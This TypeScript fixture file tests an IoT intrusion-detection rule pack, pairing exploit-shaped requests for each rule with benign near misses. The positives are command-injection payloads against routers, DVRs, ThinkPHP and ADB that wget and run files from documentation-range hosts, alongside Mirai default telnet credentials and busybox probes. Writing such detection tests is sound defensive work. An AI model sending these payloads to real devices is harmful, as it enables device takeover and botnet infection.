/**
 * @module Test payloads of the IoT exploit pack (rules/portent-iot.rules): for every sid, client
 * bytes that must fire exactly the listed pack sids, and near misses that must fire none.
 *
 * Shapes come from /work/shared/data/poc-facts (PoC texts, the in-the-wild DSL-2750B log line),
 * the real JAWS capture in /work/shared/data/pcaps/suricata-verify-bug-5437, the Mirai TR-064
 * request a honeypot recorded in November 2016, and the request layouts in ET Open rules. Every
 * downloader and host is a documentation address; no payload here is a working exploit beyond
 * the request shape that detection keys on.
 */

/** Portent's own sid range (docs/iot-pack.md). */
export const PACK_SID_MIN = 9_200_000;
export const PACK_SID_MAX = 9_209_999;

/** The pack's sids by what they catch. */
export const SID = {
  UC_HTTPD: 9_200_001,
  DLINK_DSL2750B: 9_200_002,
  GPON_INJECTION: 9_200_003,
  GPON_BYPASS: 9_200_004,
  HUAWEI_HG532: 9_200_005,
  REALTEK_MINIIGD: 9_200_006,
  JAWS_SHELL: 9_200_007,
  TR064_NTP: 9_200_008,
  NETGEAR_SETUP: 9_200_009,
  LINKSYS_TMUNBLOCK: 9_200_010,
  THINKPHP: 9_200_011,
  ADB_CNXN: 9_201_001,
  ADB_SHELL: 9_201_002,
  BUSYBOX_PROBE: 9_201_003,
  MIRAI_SEQUENCE: 9_201_004,
} as const;

export interface PackCase {
  /** What the payload is and where its shape comes from. */
  name: string;
  /** The client's bytes as latin1 text (binary bytes as \x escapes); for HTTP the request text. */
  payload: string;
  dport: number;
  /** The pack sids that must alert, exactly (sorted); empty for a negative case. */
  expect: readonly number[];
}

export interface SidCases {
  sid: number;
  /** The CVEs the rule's alerts must carry ([] when the weakness has none). */
  cve: readonly string[];
  positives: readonly PackCase[];
  negatives: readonly PackCase[];
}

/** The case's bytes. */
export function caseBytes(c: PackCase): Uint8Array {
  return Uint8Array.from(Buffer.from(c.payload, "latin1"));
}

/** An HTTP request; a Content-Length header is added when there is a body. */
function req(line: string, headers: readonly string[], body = ""): string {
  const all = body === "" ? headers : [...headers, `Content-Length: ${body.length}`];
  return `${line}\r\n${all.map((h) => `${h}\r\n`).join("")}\r\n${body}`;
}

/** An ADB message: 24-byte little-endian header (command, arg0, arg1, length, sum, magic), data. */
function adb(command: string, arg0: number, arg1: number, data: string): string {
  const u32 = (v: number): string =>
    String.fromCharCode(v & 255, (v >>> 8) & 255, (v >>> 16) & 255, (v >>> 24) & 255);
  let cmd = 0;
  for (let i = 3; i >= 0; i--) cmd = cmd * 256 + command.charCodeAt(i);
  let sum = 0;
  for (let i = 0; i < data.length; i++) sum += data.charCodeAt(i);
  return command + u32(arg0) + u32(arg1) + u32(data.length) + u32(sum) + u32(~cmd >>> 0) + data;
}

const BROWSER = [
  "Host: 203.0.113.10",
  "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
  "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
  "Connection: keep-alive",
];
const FORM = "Content-Type: application/x-www-form-urlencoded";
const HG532_AUTH =
  'Authorization: Digest username="dslf-config", realm="HuaweiHomeGateway", ' +
  'nonce="88645cefb1f9ede0e336e3569d75ee30", uri="/ctrlt/DeviceUpgrade_1", ' +
  'response="3612f843a42db38f48f59d2a3597e19c", algorithm="MD5", qop="auth", nc=00000001, ' +
  'cnonce="248d1a2560100669"';
const hg532Body = (statusUrl: string, downloadUrl = "$(echo HUAWEIUPNP)"): string =>
  '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" ' +
  's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body>' +
  '<u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1">' +
  `<NewStatusURL>${statusUrl}</NewStatusURL><NewDownloadURL>${downloadUrl}</NewDownloadURL>` +
  "</u:Upgrade></s:Body></s:Envelope>";
const realtekBody = (client: string): string =>
  '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" ' +
  's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body>' +
  '<u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1">' +
  "<NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort>" +
  "<NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort>" +
  `<NewInternalClient>${client}</NewInternalClient><NewEnabled>1</NewEnabled>` +
  "<NewPortMappingDescription>syncthing</NewPortMappingDescription>" +
  "<NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>";
const REALTEK_HEADERS = [
  "Host: 203.0.113.10:52869",
  "Accept-Encoding: gzip, deflate",
  "SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping",
  "Accept: */*",
  "User-Agent: Hello-World",
  "Connection: keep-alive",
];
const tr064Body = (server: string): string =>
  '<?xml version="1.0"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/" ' +
  'SOAP-ENV:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><SOAP-ENV:Body>' +
  '<u:SetNTPServers xmlns:u="urn:dslforum-org:service:Time:1">' +
  `<NewNTPServer1>${server}</NewNTPServer1><NewNTPServer2></NewNTPServer2>` +
  "<NewNTPServer3></NewNTPServer3><NewNTPServer4></NewNTPServer4><NewNTPServer5></NewNTPServer5>" +
  "</u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>";
const TR064_HEADERS = [
  "Host: 127.0.0.1:7547",
  "User-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)",
  "SOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers",
  "Content-Type: text/xml",
];
/** Mirai's answers to the sensor's telnet options, then one credential pair. */
const MIRAI_LOGIN =
  "\xff\xfc\x01\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0\xff\xfd\x01\xff\xfd\x03" +
  "root\r\nxc3511\r\n";
const ADB_CNXN = adb("CNXN", 0x01000000, 0x1000, "host::\x00");

const UC_BODY = (user: string): string => `command=login&username=${user}&password=PoC\r\n\r\n`;

export const PACK_CASES: readonly SidCases[] = [
  {
    sid: SID.UC_HTTPD,
    cve: ["CVE-2018-10088"],
    positives: [
      {
        name: "PoC shape: request line alone, then the form line, 85 A's (poc-facts)",
        payload: `POST /login.htm HTTP/1.1\r\n${UC_BODY("A".repeat(85))}`,
        dport: 8000,
        expect: [SID.UC_HTTPD],
      },
      {
        name: "well-formed POST with a 120-byte username on port 81",
        payload: req(
          "POST /login.htm HTTP/1.1",
          ["Host: 203.0.113.10:81", FORM],
          `command=login&username=${"B".repeat(120)}&password=x`,
        ),
        dport: 81,
        expect: [SID.UC_HTTPD],
      },
    ],
    negatives: [
      {
        name: "a browser logging in to the DVR (short username)",
        payload: req(
          "POST /login.htm HTTP/1.1",
          [...BROWSER, FORM],
          "command=login&username=admin&password=123456",
        ),
        dport: 80,
        expect: [],
      },
      {
        name: "a long e-mail address as username (40 bytes) stays under the threshold",
        payload: req(
          "POST /login.htm HTTP/1.1",
          [...BROWSER, FORM],
          "command=login&username=surveillance.operator.night@example.com&password=x",
        ),
        dport: 8000,
        expect: [],
      },
      {
        name: "fetching the login page",
        payload: req("GET /login.htm HTTP/1.1", BROWSER),
        dport: 8000,
        expect: [],
      },
    ],
  },
  {
    sid: SID.DLINK_DSL2750B,
    cve: ["CVE-2016-20017"],
    positives: [
      {
        name: "Satori's in-the-wild request line of June 2018 (poc-facts; downloader replaced)",
        payload:
          "GET /login.cgi?cli=aa%20aa%27;wget%20http://198.51.100.7/r%20-O%20-%3E%20/tmp/r;sh%20/tmp/r%27$ HTTP/1.1\r\n\r\n",
        dport: 80,
        expect: [SID.DLINK_DSL2750B],
      },
      {
        name: "Metasploit module shape (multilingual show';CMD'$)",
        payload: req(
          "GET /login.cgi?cli=multilingual%20show%27;wget%20http://198.51.100.7/m%20-O%20/tmp/m%27$ HTTP/1.1",
          ["Host: 203.0.113.10:8080"],
        ),
        dport: 8080,
        expect: [SID.DLINK_DSL2750B],
      },
    ],
    negatives: [
      {
        name: "the cli parameter without injection",
        payload: req("GET /login.cgi?cli=multilingual%20show HTTP/1.1", BROWSER),
        dport: 80,
        expect: [],
      },
      {
        name: "a normal login form post",
        payload: req("POST /login.cgi HTTP/1.1", [...BROWSER, FORM], "username=admin&password=x"),
        dport: 80,
        expect: [],
      },
    ],
  },
  {
    sid: SID.GPON_INJECTION,
    cve: ["CVE-2018-10561", "CVE-2018-10562"],
    positives: [
      {
        name: "2018 bot shape: bypass suffix and backticks in dest_host (also fires the bypass rule)",
        payload: req(
          "POST /GponForm/diag_Form?images/ HTTP/1.1",
          [
            "Host: 127.0.0.1:8080",
            "Connection: keep-alive",
            "Accept-Encoding: gzip, deflate",
            "Accept: */*",
            "User-Agent: Hello, World",
          ],
          "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.9/g+-O+/tmp/g;sh+/tmp/g`&ipv=0",
        ),
        dport: 8080,
        expect: [SID.GPON_INJECTION, SID.GPON_BYPASS],
      },
      {
        name: "injection without the bypass suffix (;wget)",
        payload: req(
          "POST /GponForm/diag_Form HTTP/1.1",
          ["Host: 203.0.113.10"],
          "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=;wget+http://198.51.100.9/k+-O+/tmp/k&ipv=0",
        ),
        dport: 80,
        expect: [SID.GPON_INJECTION],
      },
    ],
    negatives: [
      {
        name: "a logged-in ping diagnostic to an address",
        payload: req(
          "POST /GponForm/diag_Form HTTP/1.1",
          [...BROWSER, FORM],
          "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=192.0.2.1&ipv=0",
        ),
        dport: 80,
        expect: [],
      },
    ],
  },
  {
    sid: SID.GPON_BYPASS,
    cve: ["CVE-2018-10561"],
    positives: [
      {
        name: "reading the diagnostic result through the bypass",
        payload: req("GET /diag.html?images/ HTTP/1.1", ["Host: 203.0.113.10:8080"]),
        dport: 8080,
        expect: [SID.GPON_BYPASS],
      },
      {
        name: "menu page through the bypass",
        payload: req("GET /menu.html?images/ HTTP/1.1", ["Host: 203.0.113.10"]),
        dport: 80,
        expect: [SID.GPON_BYPASS],
      },
    ],
    negatives: [
      {
        name: "the GPON login page",
        payload: req("GET /login.html HTTP/1.1", BROWSER),
        dport: 80,
        expect: [],
      },
      {
        name: "an image under /images/",
        payload: req("GET /images/login_logo.gif HTTP/1.1", BROWSER),
        dport: 8080,
        expect: [],
      },
    ],
  },
  {
    sid: SID.HUAWEI_HG532,
    cve: ["CVE-2017-17215"],
    positives: [
      {
        name: "Mirai/Satori shape: Digest constants, $(...) in NewStatusURL (poc-facts)",
        payload: req(
          "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1",
          ["Host: 203.0.113.10:37215", "Content-Type: text/xml", HG532_AUTH],
          hg532Body("$(/bin/busybox wget -g 198.51.100.7 -l /tmp/.f -r /h; sh /tmp/.f)"),
        ),
        dport: 37215,
        expect: [SID.HUAWEI_HG532],
      },
    ],
    negatives: [
      {
        name: "a GET of the upgrade URL",
        payload: req("GET /ctrlt/DeviceUpgrade_1 HTTP/1.1", ["Host: 203.0.113.10:37215"]),
        dport: 37215,
        expect: [],
      },
      {
        name: "an upgrade request with a plain status URL",
        payload: req(
          "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1",
          ["Host: 203.0.113.10:37215", "Content-Type: text/xml", HG532_AUTH],
          hg532Body("http://192.0.2.1/status", "http://192.0.2.1/fw.bin"),
        ),
        dport: 37215,
        expect: [],
      },
    ],
  },
  {
    sid: SID.REALTEK_MINIIGD,
    cve: ["CVE-2014-8361"],
    positives: [
      {
        name: "Satori/Okiru shape: /picsdesc.xml, backticks in NewInternalClient",
        payload: req(
          "POST /picsdesc.xml HTTP/1.1",
          REALTEK_HEADERS,
          realtekBody("`cd /var/; wget http://198.51.100.7/o.mips; chmod +x o.mips; ./o.mips`"),
        ),
        dport: 52869,
        expect: [SID.REALTEK_MINIIGD],
      },
      {
        name: "/picdesc.xml (the path in ET 2025132) with a plain ; chain and no SOAPAction",
        payload: req(
          "POST /picdesc.xml HTTP/1.1",
          ["Host: 203.0.113.10:52869"],
          realtekBody(
            "cd /tmp/; rm -rf *; wget http://198.51.100.7/k.sh -O /tmp/k.sh; sh /tmp/k.sh",
          ),
        ),
        dport: 52869,
        expect: [SID.REALTEK_MINIIGD],
      },
    ],
    negatives: [
      {
        name: "a real port mapping for a LAN host",
        payload: req("POST /picsdesc.xml HTTP/1.1", REALTEK_HEADERS, realtekBody("192.168.1.20")),
        dport: 52869,
        expect: [],
      },
      {
        name: "fetching the UPnP description",
        payload: req("GET /picsdesc.xml HTTP/1.1", ["Host: 203.0.113.10:52869"]),
        dport: 52869,
        expect: [],
      },
    ],
  },
  {
    sid: SID.JAWS_SHELL,
    cve: ["CVE-2016-20016"],
    positives: [
      {
        name: "real capture shape (suricata-verify bug-5437; downloader replaced)",
        payload: req(
          "GET /shell?cd+/tmp;rm+-rf+*;wget+ http://198.51.100.23/.s4y/arm;sh+/tmp/arm HTTP/1.1",
          [
            "User-Agent: Hello, world",
            "Host: 127.0.0.1:80",
            "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8",
            "Connection: keep-alive",
          ],
        ),
        dport: 80,
        expect: [SID.JAWS_SHELL],
      },
      {
        name: "Metasploit check (echo)",
        payload: req("GET /shell?echo+portent HTTP/1.1", ["Host: 203.0.113.10"]),
        dport: 80,
        expect: [SID.JAWS_SHELL],
      },
    ],
    negatives: [
      {
        name: "a page named shell",
        payload: req("GET /shell.html HTTP/1.1", BROWSER),
        dport: 80,
        expect: [],
      },
      {
        name: "a path that only contains /shell?",
        payload: req("GET /webshell?x=1 HTTP/1.1", BROWSER),
        dport: 80,
        expect: [],
      },
    ],
  },
  {
    sid: SID.TR064_NTP,
    cve: ["CVE-2016-10372"],
    positives: [
      {
        name: "Mirai TR-064 worm of November 2016 (honeypot capture; downloader replaced)",
        payload: req(
          "POST /UD/act?1 HTTP/1.1",
          TR064_HEADERS,
          tr064Body("`cd /tmp;wget http://198.51.100.7/2;chmod 777 2;./2`"),
        ),
        dport: 7547,
        expect: [SID.TR064_NTP],
      },
    ],
    negatives: [
      {
        name: "setting a real NTP server",
        payload: req("POST /UD/act?1 HTTP/1.1", TR064_HEADERS, tr064Body("pool.ntp.org")),
        dport: 7547,
        expect: [],
      },
    ],
  },
  {
    sid: SID.NETGEAR_SETUP,
    cve: ["CVE-2024-12847"],
    positives: [
      {
        name: "syscmd with the currentsetting.htm bypass (Mozi-era shape)",
        payload: req(
          "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.7/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0",
          [],
        ),
        dport: 8080,
        expect: [SID.NETGEAR_SETUP],
      },
    ],
    negatives: [
      {
        name: "opening a settings page",
        payload: req("GET /setup.cgi?next_file=index.htm HTTP/1.1", BROWSER),
        dport: 80,
        expect: [],
      },
      {
        name: "the model probe",
        payload: req("GET /currentsetting.htm HTTP/1.1", ["Host: 203.0.113.10"]),
        dport: 8080,
        expect: [],
      },
    ],
  },
  {
    sid: SID.LINKSYS_TMUNBLOCK,
    cve: ["CVE-2025-34037"],
    positives: [
      {
        name: "TheMoon-style ttcp_ip injection, URL-encoded backticks",
        payload: req(
          "POST /tmUnblock.cgi HTTP/1.1",
          ["Host: 203.0.113.10:8080", "Authorization: Basic YWRtaW46VGhlTW9vbg==", FORM],
          "submit_button=&change_action=&submit_type=&action=&commit=0&ttcp_num=2&ttcp_size=2&ttcp_ip=-h+%60cd+%2Ftmp%3B+wget+http%3A%2F%2F198.51.100.7%2Fs%60&StartEPI=1",
        ),
        dport: 8080,
        expect: [SID.LINKSYS_TMUNBLOCK],
      },
      {
        name: "hndUnblock.cgi with raw backticks",
        payload: req(
          "POST /hndUnblock.cgi HTTP/1.1",
          ["Host: 203.0.113.10:8080", FORM],
          "ttcp_ip=-h `wget http://198.51.100.7/m -O /tmp/m`&action=&ttcp_num=2&ttcp_size=2&submit_button=&change_action=&commit=0&StartEPI=1",
        ),
        dport: 8080,
        expect: [SID.LINKSYS_TMUNBLOCK],
      },
    ],
    negatives: [
      {
        name: "a ttcp test to an address",
        payload: req(
          "POST /tmUnblock.cgi HTTP/1.1",
          [...BROWSER, FORM],
          "submit_button=&change_action=&action=&commit=0&ttcp_num=2&ttcp_size=2&ttcp_ip=192.0.2.5&StartEPI=1",
        ),
        dport: 8080,
        expect: [],
      },
      {
        name: "TheMoon's HNAP1 recon request",
        payload: req("GET /HNAP1/ HTTP/1.1", ["Host: 203.0.113.10:8080"]),
        dport: 8080,
        expect: [],
      },
    ],
  },
  {
    sid: SID.THINKPHP,
    cve: ["CVE-2018-20062", "CVE-2019-9082"],
    positives: [
      {
        name: "invokefunction with shell_exec and a downloader",
        payload: req(
          "GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=wget%20http://198.51.100.7/t.sh%20-O%20/tmp/t.sh HTTP/1.1",
          ["Host: 203.0.113.10", "User-Agent: Mozilla/5.0"],
        ),
        dport: 80,
        expect: [SID.THINKPHP],
      },
      {
        name: "percent-encoded scanner check (md5)",
        payload: req(
          "GET /index.php?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars%5B0%5D=md5&vars%5B1%5D%5B%5D=HelloThinkPHP HTTP/1.1",
          ["Host: 203.0.113.10"],
        ),
        dport: 80,
        expect: [SID.THINKPHP],
      },
    ],
    negatives: [
      {
        name: "a normal ThinkPHP route",
        payload: req("GET /index.php?s=/index/index/hello&name=portent HTTP/1.1", BROWSER),
        dport: 80,
        expect: [],
      },
    ],
  },
  {
    sid: SID.ADB_CNXN,
    cve: [],
    positives: [
      {
        name: "ADB connect as a host (CNXN host::)",
        payload: ADB_CNXN,
        dport: 5555,
        expect: [SID.ADB_CNXN],
      },
      {
        name: "connect, then a read-only shell command (no downloader)",
        payload: ADB_CNXN + adb("OPEN", 1, 0, "shell:getprop ro.product.model\x00"),
        dport: 5555,
        expect: [SID.ADB_CNXN],
      },
    ],
    negatives: [
      {
        name: "an HTTP request to 5555",
        payload: req("GET / HTTP/1.1", ["Host: 203.0.113.10:5555"]),
        dport: 5555,
        expect: [],
      },
      {
        name: "a TLS ClientHello start to 5555",
        payload: "\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03CNXN host::\x00",
        dport: 5555,
        expect: [],
      },
    ],
  },
  {
    sid: SID.ADB_SHELL,
    cve: [],
    positives: [
      {
        name: "connect, then shell: with a downloader (2018 ADB worm shape)",
        payload:
          ADB_CNXN +
          adb(
            "OPEN",
            1,
            0,
            "shell:cd /data/local/tmp/; busybox wget http://198.51.100.7/w -O -> w; sh w\x00",
          ),
        dport: 5555,
        expect: [SID.ADB_CNXN, SID.ADB_SHELL],
      },
    ],
    negatives: [
      {
        name: "the words in an HTTP request, not in ADB framing",
        payload: req("GET /?q=shell:wget HTTP/1.1", ["Host: 203.0.113.10:5555"]),
        dport: 5555,
        expect: [],
      },
    ],
  },
  {
    sid: SID.BUSYBOX_PROBE,
    cve: [],
    positives: [
      {
        name: "Mirai session as the simulator writes it: login, enable..sh, /bin/busybox ECCHI",
        payload: `${MIRAI_LOGIN}enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n`,
        dport: 23,
        expect: [SID.BUSYBOX_PROBE, SID.MIRAI_SEQUENCE],
      },
      {
        name: "Satori's applet probe alone on 2323",
        payload: "root\r\nvizxv\r\n/bin/busybox SATORI\r\n",
        dport: 2323,
        expect: [SID.BUSYBOX_PROBE],
      },
    ],
    negatives: [
      {
        name: "a person using real (lowercase) applets",
        payload:
          "admin\r\nadmin\r\nls -la\r\n/bin/busybox ls /tmp\r\n/bin/busybox cat /proc/cpuinfo\r\n",
        dport: 23,
        expect: [],
      },
      {
        name: "a Mirai login that failed (no post-login commands)",
        payload: MIRAI_LOGIN,
        dport: 23,
        expect: [],
      },
    ],
  },
  {
    sid: SID.MIRAI_SEQUENCE,
    cve: [],
    positives: [
      {
        name: "the post-login sequence without the applet probe",
        payload: "admin\r\nadmin\r\nenable\r\nsystem\r\nshell\r\nsh\r\n",
        dport: 2323,
        expect: [SID.MIRAI_SEQUENCE],
      },
    ],
    negatives: [
      {
        name: "a router CLI session",
        payload:
          "admin\r\nadmin\r\nenable\r\nconfigure terminal\r\nshow running-config\r\nexit\r\n",
        dport: 23,
        expect: [],
      },
    ],
  },
];
